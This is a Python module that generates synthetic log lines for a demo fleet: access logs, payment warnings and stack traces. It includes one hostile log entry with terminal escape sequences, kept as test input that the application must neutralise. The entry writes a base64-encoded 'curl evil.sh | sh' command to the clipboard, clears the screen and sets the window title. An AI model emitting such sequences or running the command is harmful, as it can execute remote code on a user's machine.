"""Believable log lines for the demo fleet: access logs, warnings, stack traces, hostile bytes."""

from __future__ import annotations

import random

PATHS = (
    "/",
    "/products",
    "/products/4711",
    "/cart",
    "/checkout",
    "/api/v1/search?q=boots",
    "/static/app.3f9c1.js",
    "/static/site.css",
    "/healthz",
    "/favicon.ico",
    "/account/orders",
)
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15",
    "curl/8.5.0",
    "kube-probe/1.30",
)
#: A request whose path carries escape sequences: OSC 52 (clipboard write), CSI 2J (clear),
#: OSC 0 (window title). The app must show it neutralised, never let it reach the terminal.
HOSTILE = (
    '203.0.113.66 - - "GET /search?q=\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J'
    '\x1b]0;you have been pwned\x07 HTTP/1.1" 400 0 "-" "sqlmap/1.8"'
)
PAYMENTS_TRACE = (
    "ERROR payments.api: unhandled exception while capturing charge ch_3QJ2",
    "Traceback (most recent call last):",
    '  File "/app/payments/api.py", line 214, in capture',
    "    result = await gateway.capture(charge_id, amount=amount)",
    '  File "/app/payments/gateway.py", line 88, in capture',
    '    raise GatewayTimeout(f"gateway did not answer within {self.timeout}s")',
    "payments.gateway.GatewayTimeout: gateway did not answer within 10.0s",
)
WORKER_BOOT = (
    "order-worker 2.4.1 starting (pid 1)",
    "connecting to queue orders-incoming on sb-contoso-prod.servicebus.windows.net",
    "WARN  prefetch count 0 is inefficient; using 32",
    "consumer ready, waiting for messages",
)
WORKER_CRASH = (
    "processing message 9f1c2d7e (order 100482)",
    'Exception in thread "main" java.lang.IllegalStateException: inventory service returned 503',
    "\tat com.contoso.orders.InventoryClient.reserve(InventoryClient.java:142)",
    "\tat com.contoso.orders.OrderHandler.handle(OrderHandler.java:77)",
    "\tat com.contoso.orders.Worker.run(Worker.java:51)",
    "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
)
REPORT_LINES = (
    *(
        f"processing partition {i}/64: {i * 151_223:,} rows, heap {180 + i * 23} MiB"
        for i in range(1, 42)
    ),
    "WARN  heap usage above 90% of the 1.0 GiB limit",
)
BATCH_LINES = (
    "invoice-batch 1.9.0: run 2026-01-15",
    "fetched 1,284 open orders",
    "rendered 1,284 invoices (pdf) in 41.2 s",
    "uploaded to stinvoicesprod/invoices/2026-01-15/",
    "done: 1,284 invoices, 0 failures",
)
WINDOWS_LINES = (
    "Service 'w3svc' started",
    "IIS 10.0 Detailed Error - 404.0 - Not Found  GET /wp-login.php",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex260115.log rotated",
)


def access_line(rng: random.Random) -> str:
    """One combined-log-format line from the storefront."""
    path = rng.choice(PATHS)
    status = rng.choices((200, 200, 200, 304, 301, 404, 500), (60, 20, 10, 5, 2, 2, 1))[0]
    size = 0 if status in (301, 304) else rng.randint(180, 48_000)
    ip = f"198.51.100.{rng.randint(2, 254)}"
    return f'{ip} - - "GET {path} HTTP/1.1" {status} {size} "-" "{rng.choice(AGENTS)}"'


def shipper_line(rng: random.Random) -> str:
    return (
        f"[output:azure_logs_ingestion] flushed {rng.randint(20, 400)} records "
        f"in {rng.randint(3, 90)} ms"
    )


def payments_line(rng: random.Random) -> str:
    choice = rng.random()
    if choice < 0.08:
        return "WARN  payments.db: slow query (1.8 s): SELECT * FROM charges WHERE status = $1"
    if choice < 0.15:
        return "WARN  payments.gateway: retrying capture after 502 from gateway (attempt 2/3)"
    amount = rng.randint(5, 900)
    return f"INFO  payments.api: captured charge ch_{rng.getrandbits(40):010x} EUR {amount}.00"
